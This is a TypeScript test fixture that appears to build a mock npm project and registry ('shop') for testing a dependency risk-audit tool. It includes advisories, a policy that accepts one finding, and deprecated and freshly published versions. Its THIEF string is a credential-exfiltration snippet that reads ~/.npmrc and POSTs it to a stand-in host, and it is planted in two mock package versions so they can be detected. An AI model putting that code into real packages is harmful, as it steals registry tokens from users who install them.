import { createHash } from 'node:crypto';
import { packageOf } from '../artifacts/make-tarball.js';
import { machine, type Machine } from '../cli/program.js';
import { integrityOf, packument } from '../support/packuments.js';
import { startRegistry, type RegistryServer } from '../support/registry-server.js';

const json = (value: unknown): string => JSON.stringify(value, null, 2);

/** What nothing speaks against, with the bytes that the lockfile names. */
const CALM = packageOf({ name: 'calm', version: '1.0.0' }, { 'index.js': 'module.exports = 1;\n' });
const CALM_INTEGRITY = `sha512-${createHash('sha512').update(CALM).digest('base64')}`;

/** Reads files and sends them away when it is imported: what nobody should install. */
const THIEF =
  "const fs = require('fs'); const https = require('https');\n" +
  "https.request('https://collect.invalid/', { method: 'POST' }).end(fs.readFileSync(process.env.HOME + '/.npmrc'));\n";

export const MANIFEST = {
  name: 'shop',
  version: '1.0.0',
  dependencies: {
    accepted: '1.0.0',
    'aae-stream': '1.0.0',
    broken: '1.0.0',
    calm: '1.0.0',
    express: '^4.17.1',
    fresh: '1.1.0',
    loose: '1.0.0',
  },
};

const LOCKED = {
  accepted: { version: '1.0.0' },
  'aae-stream': { version: '1.0.0' },
  broken: { version: '1.0.0' },
  calm: { version: '1.0.0', integrity: CALM_INTEGRITY },
  express: { version: '4.17.1', dependencies: { qs: '6.7.0' } },
  fresh: { version: '1.1.0' },
  loose: { version: '1.0.0' },
  qs: { version: '6.7.0' },
};

const LOCKFILE = {
  name: 'shop',
  version: '1.0.0',
  lockfileVersion: 3,
  packages: {
    '': MANIFEST,
    ...Object.fromEntries(
      Object.entries(LOCKED).map(([name, entry]) => [
        `node_modules/${name}`,
        { integrity: integrityOf(`${name}@${entry.version}`), ...entry },
      ]),
    ),
  },
};

const advisory = (id: string, range: string, severity = 'high') => ({
  id: 1,
  url: `https://github.com/advisories/${id}`,
  title: 'A crafted query string changes the prototype of every object',
  severity,
  vulnerable_versions: range,
});

const POLICY = {
  accept: [
    {
      package: 'accepted@1.0.0',
      rule: 'known-vulnerability',
      reason: 'Only our own build calls it.',
      expires: '2099-12-31',
    },
  ],
};

/** A project in which every level is found, a finding is accepted, and one package's document cannot be had. */
export interface Shop {
  readonly registry: RegistryServer;
  readonly user: Machine;
  close(): Promise<void>;
}

export async function openShop(): Promise<Shop> {
  const plain = (name: string, ...versions: readonly string[]) =>
    packument(name, Object.fromEntries(versions.map((version) => [version, {}])));
  const registry = await startRegistry({
    packages: [
      plain('accepted', '1.0.0', '1.0.1'),
      plain('aae-stream', '1.0.0'),
      plain('calm', '1.0.0'),
      plain('express', '4.17.1'),
      packument('fresh', { '1.0.0': {}, '1.1.0': { published: new Date().toISOString() } }),
      packument('loose', { '1.0.0': { deprecated: 'use tight instead' }, '1.0.1': {} }),
      plain('qs', '6.7.0', '6.7.3', '6.8.0'),
      plain('settled-thief', '1.0.0', '1.1.0'),
      packument('turned', { '1.0.0': {}, '1.0.1': {}, '1.1.0': { published: new Date().toISOString() } }),
    ],
    advisories: {
      qs: [advisory('GHSA-hrpp-h998-j3pp', '<6.7.3')],
      accepted: [advisory('GHSA-aaaa-bbbb-cccc', '<1.0.1')],
    },
    tarballs: {
      ...Object.fromEntries(
        [
          'settled-thief@1.0.0',
          'turned@1.0.0',
          'turned@1.0.1',
          'qs@6.7.3',
          'qs@6.8.0',
          'fresh@1.0.0',
          'loose@1.0.1',
        ].map((id) => {
          const [name = '', version = ''] = id.split('@');
          return [id, packageOf({ name, version }, { 'index.js': 'module.exports = 1;\n' })];
        }),
      ),
      'calm@1.0.0': CALM,
      'settled-thief@1.1.0': packageOf({ name: 'settled-thief', version: '1.1.0' }, { 'index.js': THIEF }),
      'turned@1.1.0': packageOf(
        { name: 'turned', version: '1.1.0' },
        { 'index.js': THIEF, 'lib/more.js': '// more\n' },
      ),
    },
  });
  // Each try is answered so, by whichever program.
  registry.fail(
    '/broken',
    ...Array.from({ length: 100 }, () => ({ kind: 'answer', answer: { status: 500 } }) as const),
  );
  const user = await machine(`registry=${registry.url}/\nfetch-retries=0\n`);
  await user.folder.write('home/shop/package.json', json(MANIFEST));
  await user.folder.write('home/shop/package-lock.json', json(LOCKFILE));
  await user.folder.write('home/shop/package-risk.json', json(POLICY));
  const close = async (): Promise<void> => {
    await registry.close();
    await user.folder.remove();
  };
  return { registry, user, close };
}
